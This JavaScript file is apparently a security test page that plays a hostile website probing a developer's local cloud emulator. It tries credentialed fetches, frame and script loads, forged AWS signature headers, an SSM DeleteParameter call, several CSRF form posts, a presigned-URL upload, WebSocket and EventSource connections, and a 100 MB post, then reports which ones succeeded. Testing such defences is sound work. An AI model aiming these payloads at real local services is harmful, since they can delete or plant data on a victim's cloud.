// A page of an attacker. It tries what a page can to reach the cloud of whoever opened it, and reports what it could read.
const { cloud, presignedGet, presignedPut, api } = JSON.parse(document.querySelector('#targets').textContent);
const health = `${cloud}/_goblet/health`;
const TIME = 5_000;

const read = (url, options) => async () => (await fetch(url, options)).text();
const send = (options) => async () => {
  const answer = await fetch(cloud, { method: 'POST', mode: 'no-cors', ...options });
  return answer.type === 'opaque' ? '' : answer.text();
};

/** Loads an element, and says what a page can tell of it. */
const load = (name, set) => () =>
  new Promise((resolve, reject) => {
    const element = document.createElement(name);
    element.onload = () => resolve(name === 'iframe' ? (element.contentDocument?.body?.textContent ?? '') : 'loaded');
    element.onerror = () => reject(new Error('not loaded'));
    set(element);
    document.body.append(element);
  });

function submit(fields, enctype) {
  return () =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `frame-${Math.random()}`;
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: cloud, target: frame.name, enctype });
      for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name, value });
        form.append(input);
      }
      frame.onload = () => resolve('');
      document.body.append(frame, form);
      form.submit();
    });
}

const SIGNED = {
  authorization:
    'AWS4-HMAC-SHA256 Credential=GOBLET000000000000/20261201/us-east-1/ssm/aws4_request, SignedHeaders=host, Signature=00',
  'x-amz-date': '20261201T000000Z',
};
const QUERY = { Action: 'CreateQueue', QueueName: 'evil', Version: '2012-11-05' };

const ATTACKS = {
  'reads the health page': read(health),
  'reads it without CORS': read(health, { mode: 'no-cors' }),
  'reads it with credentials': read(health, { credentials: 'include' }),
  'reads it as a navigation': load('iframe', (frame) => (frame.src = health)),
  'reads it from a frame without an origin': load('iframe', (frame) => {
    frame.sandbox = 'allow-scripts';
    frame.srcdoc = `<script>fetch('${health}')</script>`;
  }),
  'loads it as a script': load('script', (script) => (script.src = health)),
  'loads it as a style': load('link', (link) => Object.assign(link, { rel: 'stylesheet', href: health })),
  'loads it as an image': load('img', (image) => (image.src = health)),
  'calls with headers of a signature': read(cloud, { method: 'POST', headers: SIGNED, body: '{}' }),
  'calls with a target': read(cloud, {
    method: 'POST',
    headers: { 'x-amz-target': 'AmazonSSM.DeleteParameter' },
    body: '{"Name":"/alive"}',
  }),
  'posts text': send({ body: '{"Name":"/alive"}', headers: { 'content-type': 'text/plain' } }),
  'posts a form by fetch': send({ body: new URLSearchParams(QUERY) }),
  'posts a blob': send({ body: new Blob(['{}']) }),
  'posts 100 MB': send({ body: new Blob([new Uint8Array(100_000_000)]) }),
  'posts a form': submit(QUERY, 'application/x-www-form-urlencoded'),
  'posts a form of parts': submit(QUERY, 'multipart/form-data'),
  'posts a form of text': submit({ '{"Name":"/alive","x":"': '"}' }, 'text/plain'),
  'posts a beacon': async () => (navigator.sendBeacon(cloud, '{}') ? '' : 'refused'),
  'puts an object by a URL that it has got hold of': read(presignedPut, { method: 'PUT', body: 'evil' }),
  'reads an object by a URL that it has got hold of': read(presignedGet),
  'loads that object as an image': load('img', (image) => (image.src = presignedGet)),
  'opens a WebSocket': () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(cloud.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = () => reject(new Error('not opened'));
    }),
  'opens an event source': () =>
    new Promise((resolve, reject) => {
      const source = new EventSource(health);
      source.onopen = () => resolve('open');
      source.onerror = () => reject(new Error('not opened'));
    }),
  'reads an API that lets every page read it': read(api),
};

async function outcome(attack) {
  const late = new Promise((_, reject) => setTimeout(reject, TIME, new Error('no answer')));
  try {
    return { read: await Promise.race([attack(), late]) };
  } catch (error) {
    return { refused: String(error.message) };
  }
}

const results = {};
for (const [name, attack] of Object.entries(ATTACKS)) results[name] = await outcome(attack);
await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
